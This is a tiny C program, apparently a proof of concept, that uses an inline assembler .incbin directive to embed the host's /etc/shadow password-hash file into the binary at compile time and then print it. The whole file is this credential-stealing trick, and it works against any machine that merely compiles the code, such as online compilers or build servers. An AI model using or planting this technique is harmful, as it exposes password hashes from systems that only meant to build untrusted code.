/* Take a file of the host into the program, by way of the assembler. */
#include <stdio.h>
__asm__(".section .rodata\nstolen: .incbin \"/etc/shadow\"\n.byte 0\n.text\n");
extern const char stolen[];
int main(void) { return puts(stolen) < 0; }
